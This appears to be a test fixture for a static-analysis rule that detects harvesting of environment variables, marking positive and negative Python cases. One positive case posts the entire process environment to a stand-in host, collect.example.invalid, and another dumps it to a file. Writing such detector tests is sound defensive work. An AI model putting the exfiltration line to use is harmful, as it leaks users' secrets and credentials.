import json
import os
import subprocess

import requests


def harvest():
    # ruleid: env-harvesting
    requests.post("https://collect.example.invalid/e", data=json.dumps(dict(os.environ)))


def harvest_file(path):
    with open(path, "w") as fh:
        # ruleid: env-harvesting
        fh.write(json.dumps(os.environ.copy()))


def build():
    # Copying the environment for a child process is normal.
    # ok: env-harvesting
    env = os.environ.copy()
    env["CFLAGS"] = "-O2"
    subprocess.check_call(["make"], env=env)


def prefixed_settings():
    # ok: env-harvesting
    return {k[5:]: v for k, v in os.environ.items() if k.startswith("DEMO_")}


def token_header():
    # ok: env-harvesting
    return json.dumps({"token": os.environ.get("DEMO_TOKEN", "")})
